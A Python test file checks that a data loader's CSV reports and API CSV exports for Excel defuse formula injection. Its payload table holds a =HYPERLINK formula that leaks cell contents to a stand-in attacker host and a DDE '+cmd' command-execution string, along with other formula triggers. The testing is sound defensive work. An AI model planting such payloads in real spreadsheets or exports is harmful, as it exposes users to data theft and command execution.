"""Cells an attacker writes into an agency table never become formulas in a CSV made for Excel.

What an attacker tried (issue 19): ``=HYPERLINK(…)``, ``+cmd|…``, ``-2+3``, ``@SUM(…)``, cells
starting with a tab or a carriage return, and "x,=1+1", whose "=1+1" becomes a cell of its
own when Excel is set to a comma list separator (English Windows) and splits the ``;`` file
at commas. A table holding them in its value, region-code and drop-rule columns, and named
with one of them, goes through the real ``onecenter load``; the CSV reports it writes
(``*-masalah.csv``, ``tinjauan-wilayah.csv``, ``koherensi-*.csv``) and the API's CSV answers
made for Excel (``/loads.csv``, ``/coherence.csv``) are read back as Excel would read them,
with ``;`` and with ``,`` as the separator: no cell may start a formula, every payload must
be there (as text), and the agency's plain numbers "-5" and "-0,5" must stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.app import create_app
from graph.cli.commands import app
from graph.reference.regions import RegionIndex
from graph.settings import PROJECT_DIR, load_settings
from graph.spreadsheet import csv_bytes, verbatim
from graph.store.connect import open_store
from tests.conftest import copy_reference
from tests.trust.figures import record_figures

# payload -> the text Excel shows once it is defused (a quote before the formula)
DEFUSED = {
    '=HYPERLINK("http://penyerang.test/?d="&A1;"klik")': '\'=HYPERLINK("http://penyerang.test/?d="&A1;"klik")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r'=1+2",
    "x,=1+1": "x,'=1+1",
    'x,"=1+1"': 'x,"\'=1+1"',
}
PAYLOADS = list(DEFUSED)
NUMBERS = ["-5", "-0,5"]  # plain negative numbers: Excel must still read them as numbers
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:[.,][0-9]+)*")
TABLE = "x,=1+1.csv"  # the file's own name is written into reports and the load history

MAPPING = """\
dataset:
  id: uji-rumus
  title: {id: Penduduk uji, en: Test population}
  description: {id: Tabel uji, en: Test table}
  agency: disdukcapil
  frequency: annual
source:
  path: "x,=1+1.csv"
  delimiter: ";"
  decimal: comma
  drop_rows:
    - {column: keterangan, matches: 'hapus', reason: baris catatan / note row}
region:
  level: desa
  code: {column: kode_desa, system: kemendagri}
period:
  year: {column: tahun}
measures:
  - {column: jumlah, indicator: jumlah-penduduk, unit: jiwa}
"""
REGIONS = RegionIndex.from_csv(PROJECT_DIR / "ontology" / "codes" / "wilayah_lampung.csv")


def write_table(folder: Path) -> Path:
    """250 good rows, then every payload as a value, as a region code and in a dropped row,
    and the two negative numbers as values (the second is not whole: refused as a cell)."""
    desa = [c.replace(".", "") for c in REGIONS.descendants("18.09", "desa")[:25]]
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    writer.writerow(["kode_desa", "tahun", "keterangan", "jumlah"])
    for i in range(250):
        writer.writerow([desa[i % 25], 2014 + i // 25, "", str(1200 + 7 * i)])
    for i, payload in enumerate(PAYLOADS):
        writer.writerow([desa[i], 2024, "", payload])
        writer.writerow([payload, 2024, "", "1500"])
        writer.writerow([desa[i], 2024, payload + " hapus", "1500"])
    for i, number in enumerate(NUMBERS):
        writer.writerow([desa[10 + i], 2024, "", number])
    (folder / TABLE).write_text(out.getvalue(), encoding="utf-8")
    mapping = folder / "uji-rumus.yaml"
    mapping.write_text(MAPPING, encoding="utf-8")
    return mapping


def cells(data: bytes, separator: str) -> list[str]:
    """Every cell as Excel set to ``separator`` reads the file."""
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def formulas(data: bytes) -> list[str]:
    """Cells that could start a formula: read with ``;`` as Excel with Indonesian settings
    reads the file, and (blindly) every piece after a comma or a line break, where Excel set
    to a comma list separator, which may not see the quotes, can start a cell or a row."""
    found = [f"; {cell[:80]!r}" for cell in cells(data, ";") if _formula(cell)]
    pieces = re.split(r"[,\r\n]", data.decode("utf-8-sig"))
    return found + [f", {piece[:80]!r}" for piece in pieces if _formula(piece.lstrip('"'))]


def _formula(text: str) -> bool:
    return text.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(text)


def test_the_writer_guards_every_cell_for_excel_but_leaves_programs_their_text() -> None:
    rows = [[p, verbatim(p), n, verbatim(n)] for p, n in zip(PAYLOADS, NUMBERS * 4, strict=True)]
    excel = csv_bytes(["a", "b", "c", "d"], rows, "excel")
    assert formulas(excel) == []
    read = cells(excel, ";")
    assert [c for c in read if c in DEFUSED.values()] == [DEFUSED[p] for p in PAYLOADS for _ in (0, 1)]
    assert [c for c in read if c in NUMBERS] == [n for n in NUMBERS * 4 for _ in (0, 1)]
    standard = csv_bytes(["a", "b", "c", "d"], rows, "standard")
    assert [c for c in cells(standard, ",") if c in PAYLOADS] == [p for p in PAYLOADS for _ in (0, 1)]


@pytest.mark.slow
def test_no_report_or_csv_answer_for_excel_starts_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, reference_folder: Path
) -> None:
    # The worker's on-disk reference store copied: loading it here takes seconds.
    reports, store = tmp_path / "reports", copy_reference(reference_folder, tmp_path)
    monkeypatch.setenv("ONECENTER_STORE_PATH", str(store))
    monkeypatch.setenv("ONECENTER_REPORTS_DIR", str(reports))
    monkeypatch.setenv("ONECENTER_CONFIG", str(tmp_path / "no-onecenter.toml"))
    (tmp_path / "tabel").mkdir()
    mapping = write_table(tmp_path / "tabel")

    result = CliRunner().invoke(app, ["load", str(mapping)])
    assert result.exit_code == 1 and "ditahan" in result.output, result.output  # held: -5 people

    written = {p.name: p.read_bytes() for p in sorted(reports.glob("*.csv"))}
    assert {"uji-rumus-masalah.csv", "tinjauan-wilayah.csv", "koherensi-disdukcapil.csv"} <= set(written)
    reader = open_store(store, read_only=True)
    try:
        with TestClient(create_app(load_settings(), reader)) as client:
            for path in ("/loads.csv", "/coherence.csv"):
                response = client.get(path)
                assert response.status_code == 200, response.text
                written[path] = response.content
    finally:
        reader.close()

    found = {name: formulas(data) for name, data in written.items()}
    assert {name: cells for name, cells in found.items() if cells} == {}
    problems = cells(written["uji-rumus-masalah.csv"], ";")
    shown = [p for p in PAYLOADS if DEFUSED[p] in problems]
    assert shown == PAYLOADS, "every payload is in the problems report, as text"
    assert "-0,5" in problems, "a plain negative number stays a number"
    assert "-5" in cells(written["koherensi-disdukcapil.csv"], ";")
    assert any(TABLE.replace(",", ",'") in c for c in cells(written["/loads.csv"], ";"))
    record_figures(
        "csv_injection",
        {
            "payloads": len(PAYLOADS),
            "csv_files_checked": len(written),
            "cells_checked": sum(len(cells(d, s)) for d in written.values() for s in ";,"),
        },
    )
